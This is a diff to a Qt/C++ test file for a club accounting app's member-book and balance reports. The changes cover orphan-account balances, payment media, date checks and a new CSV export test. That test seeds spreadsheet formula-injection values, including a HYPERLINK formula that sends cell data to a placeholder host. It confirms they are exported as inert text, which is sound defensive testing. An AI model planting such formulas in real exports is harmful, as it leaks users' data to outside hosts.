@@ -24,12 +24,13 @@ void exec(const QSqlDatabase &db, const QString &sql, const QVariantList &binds 
 }
 
 void movement(const QSqlDatabase &db, const QString &fecha, const QString &tipo, const QVariant &cuenta,
-              double importe, const QString &descripcion, const QVariant &socio = {}, const QVariant &cuota = {})
+              double importe, const QString &descripcion, const QVariant &socio = {}, const QVariant &cuota = {},
+              const QString &medio = "E")
 {
     exec(db,
          "INSERT INTO Movimiento (Fecha, Tipo, IDCuenta, Importe, Descripcion, IDSocio, IDCuota, MedioPago)"
-         " VALUES (?, ?, ?, ?, ?, ?, ?, 'E')",
-         {fecha, tipo, cuenta, importe, descripcion, socio, cuota});
+         " VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
+         {fecha, tipo, cuenta, importe, descripcion, socio, cuota, medio});
 }
 
 QStringList lines(const QString &text)
@@ -83,7 +84,8 @@ void memberBookLedger(const QSqlDatabase &db)
     movement(db, "2026-12-31 23:59:59", "I", 5, 1500, "Cuota 2026", 8, 1); // the last moment of the year
 }
 
-// Two parents with two accounts each, and rows the joins or the period leave out.
+// Two parents with two accounts each, accounts without a parent, codes typed
+// by hand, and rows the period or the codes leave out.
 void balanceLedger(const QSqlDatabase &db)
 {
     exec(db, "INSERT INTO Cuenta (IDCuenta, Descripcion, Tipo, IDcuentaPadre) VALUES"
@@ -99,9 +101,13 @@ void balanceLedger(const QSqlDatabase &db)
     movement(db, "2026-03-15 10:00:00", "I", 20, 1500, "Cuota 2026", 2, 1);
     movement(db, "2026-03-20 10:00:00", "I", 21, 0.1, "Rifa");
     movement(db, "2026-03-21 10:00:00", "I", 21, 0.2, "Rifa");
-    movement(db, "2026-03-10 10:00:00", "I", 30, 5000, "Huérfano");     // parent missing: left out
-    movement(db, "2026-03-10 10:00:00", "I", 31, 5000, "Huérfano");     // parent deleted: left out
+    movement(db, "2026-03-10 10:00:00", "I", 30, 5000, "Huérfano");     // no parent: its own group
+    movement(db, "2026-03-10 10:00:00", "I", 31, 5000, "Huérfano");     // parent deleted: its own group
     movement(db, "2026-03-10 10:00:00", "I", QVariant(), 5000, "Sin cuenta"); // no account: left out
+    movement(db, "2026-03-12 10:00:00", "e", 11, 50, "Vidrio");          // an expense, as the balances count it
+    movement(db, "2026-03-13 10:00:00", "E", 11, -20.5, "Devolución");  // a negative amount
+    movement(db, "2026-03-12 10:00:00", "x", 11, 7000, "Código x");      // neither kind: in no balance
+    movement(db, "2026-03-12 10:00:00", "I", 20, 9000, "Medio z", {}, {}, "z"); // neither medium: in no balance
 }
 
 void answerBalance(ScriptedPrompts &p, const QString &start, const QString &end, const QString &details)
@@ -130,6 +136,7 @@ class tst_ListingReports : public QObject
 private slots:
     void memberBookListsThisYearsFeePayersWithACourse();
     void memberBookExportsToTextAndCsv();
+    void csvKeepsFormulasAsText();
     void balanceWithDetailsCoversBothWholeDays();
     void balanceSummaryAndItsAnswers();
     void balanceExportsAndCancelledDialogs();
@@ -177,6 +184,28 @@ void tst_ListingReports::memberBookExportsToTextAndCsv()
     compareWithExpected(csv, "libro.csv");
 }
 
+void tst_ListingReports::csvKeepsFormulasAsText()
+{
+    TestEnv t;
+    t.openNewDb([](const QSqlDatabase &db) {
+        exec(db, "INSERT INTO Curso (IDCurso, Nombre) VALUES (1, '-1° A')");
+        exec(db, "INSERT INTO Socio (IDSocio, Nombre, Alumno, IDCurso) VALUES"
+                 " (1, '=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")', '+54 11 5555', 1),"
+                 " (2, '@SUMA(A1)', char(9) || 'tab', 1), (3, char(13) || 'cr', '-12.5', 1), (4, 'Ana', 'a=b', 1)");
+        for (int socio = 1; socio <= 4; ++socio)
+            movement(db, "2026-05-01 10:00:00", "I", 5, 1500, "Cuota", socio, 1);
+    });
+    t.clock->set(QDateTime(QDate(2026, 6, 1), QTime(8, 0)));
+    rptLibroSocios r;
+    QVERIFY(r.run().ok());
+    // Each such text gets a quote in front, inside a quoted cell; a number written as text stays a number.
+    QCOMPARE(ReportCsv(r), QString("Curso,Nombre,Alumno\r\n"
+                                   "\"'-1° A\",\"'\rcr\",-12.5\r\n"
+                                   "\"'-1° A\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"clic\"\")\",\"'+54 11 5555\"\r\n"
+                                   "\"'-1° A\",\"'@SUMA(A1)\",\"'\ttab\"\r\n"
+                                   "\"'-1° A\",Ana,a=b\r\n"));
+}
+
 void tst_ListingReports::balanceWithDetailsCoversBothWholeDays()
 {
     TestEnv t;
@@ -191,16 +220,16 @@ void tst_ListingReports::balanceWithDetailsCoversBothWholeDays()
     // here the title keeps the dates as they were typed.
     QCOMPARE(lines(r.text()).at(1), QStringLiteral("Balance periodo 1/3/2026 - 31/03/2026"));
     // The totals of each kind: expenses in red, income in blue; the subtotals in black.
-    QCOMPARE(colorOf(r, "301"), QColor(255, 0, 0));
-    QCOMPARE(colorOf(r, "3000,3"), QColor(0, 0, 255));
+    QCOMPARE(colorOf(r, "330,5"), QColor(255, 0, 0));
+    QCOMPARE(colorOf(r, "13000,3"), QColor(0, 0, 255));
     QCOMPARE(colorOf(r, "100,8"), QColor(Qt::black));
 
-    // A point as the decimal separator.
+    // A point as the decimal separator; the dates still day first, as the questions ask.
     t.setLocale(QLocale(QLocale::English, QLocale::UnitedStates));
     answerBalance(*t.prompts, "01/03/2026", "31/03/2026", "SI");
     QVERIFY(r.run().ok());
-    QVERIFY(lines(r.text()).contains("TOTAL INGRESOS 3000.3"));
-    QVERIFY(lines(r.text()).contains("3/31/2026 Esponja 0.7"));
+    QVERIFY(lines(r.text()).contains("TOTAL INGRESOS 13000.3"));
+    QVERIFY(lines(r.text()).contains("31/03/2026 Esponja 0.7"));
 }
 
 void tst_ListingReports::balanceSummaryAndItsAnswers()
@@ -208,9 +237,12 @@ void tst_ListingReports::balanceSummaryAndItsAnswers()
     TestEnv t;
     t.openNewDb(balanceLedger);
     t.clock->set(QDateTime(QDate(2026, 12, 7), QTime(9, 0)));
-    const QStringList summary{"Balance periodo 01/03/2026 - 31/03/2026", "EGRESOS", "Edificio 200,2",
-                              "Limpieza 100,8", "Gastos 301", "TOTAL EGRESOS 301", "INGRESOS", "Cuotas 3000",
-                              "Rifas 0,3", "Recaudación 3000,3", "TOTAL INGRESOS 3000,3"};
+    // Every movement of the period with both codes is in a total, those booked
+    // to an account without a parent under that account.
+    const QStringList summary{"Balance periodo 01/03/2026 - 31/03/2026", "EGRESOS", "Edificio 229,7",
+                              "Limpieza 100,8", "Gastos 330,5", "TOTAL EGRESOS 330,5", "INGRESOS",
+                              "Padre borrado 5000", "Padre borrado 5000", "Cuotas 3000", "Rifas 0,3",
+                              "Recaudación 3000,3", "Sin padre 5000", "Sin padre 5000", "TOTAL INGRESOS 13000,3"};
     // Only "SI" shows the movements: "si", "NO" and an empty answer give the summary.
     for (const QString &details : {"si", "NO", ""}) {
         answerBalance(*t.prompts, "01/03/2026", "31/03/2026", details);
@@ -229,6 +261,15 @@ void tst_ListingReports::balanceSummaryAndItsAnswers()
         QVERIFY(r.run().wasCancelled());
         QCOMPARE(r.pageCount(), 0);
     }
+
+    // An end before the start says so and gives no report.
+    answerBalance(*t.prompts, "01/03/2026", "28/2/2026", "NO");
+    t.prompts->expectMessage("La fecha fin ejercicio (28/2/2026) es anterior a la fecha inicio (01/03/2026)."
+                             " Ingrese un periodo que termine el mismo día o después de empezar.",
+                             MsgIcon::Exclamation, MsgButtons::OK);
+    rptBalance backwards;
+    QVERIFY(backwards.run().wasCancelled());
+    QCOMPARE(backwards.pageCount(), 0);
 
     // A cancelled question ends the report there, saying nothing.
     t.prompts->expectInput("Ingrese fecha incio ejercicio (dd/mm/aaaa)", "Balance", "07/12/2025", "01/03/2026");
